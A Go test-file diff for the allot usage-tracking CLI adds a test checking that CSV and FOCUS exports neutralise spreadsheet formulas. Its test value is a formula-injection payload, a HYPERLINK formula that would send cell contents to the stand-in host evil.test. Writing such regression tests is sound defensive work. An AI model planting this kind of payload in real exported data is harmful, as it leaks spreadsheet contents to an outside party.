@@ -1,10 +1,15 @@
 package main
 
 import (
+	"context"
+	"encoding/csv"
+	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/allot-dev/allot"
+	"github.com/allot-dev/allot/sqlite"
 )
 
 // TestPushCapsLabels checks that allot push sends a local log's over-long
@@ -17,6 +22,51 @@ func TestPushCapsLabels(t *testing.T) {
 	for field, v := range map[string]string{"id": r.ID, "model": r.Model, "requested_model": r.RequestedModel, "task": r.Task, "session": r.Session, "app": r.App, "provider": r.Provider} {
 		if len(v) > allot.MaxLabelBytes {
 			t.Errorf("%s of %d bytes sent; the server refuses over %d", field, len(v), allot.MaxLabelBytes)
+		}
+	}
+}
+
+// TestCLICSVNeutralisesFormulas stores a call whose task is a formula (as
+// X-Allot-Task can set it) and reads it back with allot report --format
+// csv and allot export --format csv and focus: the task cell starts with a
+// quote, and the numbers stay numbers.
+func TestCLICSVNeutralisesFormulas(t *testing.T) {
+	t.Parallel()
+	const formula = `=HYPERLINK("http://evil.test/?"&A1,"Click")`
+	path := filepath.Join(t.TempDir(), "allot.db")
+	db, err := sqlite.Open(context.Background(), path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	at := time.Date(2026, 11, 3, 10, 0, 0, 0, time.UTC)
+	_, err = db.Append(context.Background(), []allot.Event{{ID: "e1", Time: at, Principal: allot.Principal{Org: "acme", Team: "data", User: "bob"},
+		Provider: "openai", RequestedModel: "gpt-4o", ServedModel: "gpt-4o", Route: allot.RouteChat, Task: formula, App: "@app",
+		Source: allot.SourceGateway, Status: 200, Tokens: allot.Tokens{Input: 10, Output: 2}, Cost: 1_500_000_000, CostKnown: true}})
+	db.Close()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, args := range [][]string{
+		{"report", "--by", "task,app", "--format", "csv"},
+		{"export", "--format", "csv"},
+		{"export", "--format", "focus"},
+	} {
+		out := mustRun(t, append(args, "--from", "2026-11-01", "--to", "2026-11-30", "--database", path)...)
+		recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: %v\n%s", args, err, out)
+		}
+		if strings.Contains(out, "\n"+formula) || strings.Contains(out, ","+formula) || strings.Contains(out, `,"=`) {
+			t.Errorf("%s writes the formula raw:\n%s", args, out)
+		}
+		found := false
+		for _, r := range recs {
+			for _, c := range r {
+				found = found || strings.HasPrefix(c, "'=HYPERLINK(")
+			}
+		}
+		if !found || !strings.Contains(out, "1.5") {
+			t.Errorf("%s lacks the quoted task or the cost:\n%s", args, out)
 		}
 	}
 }
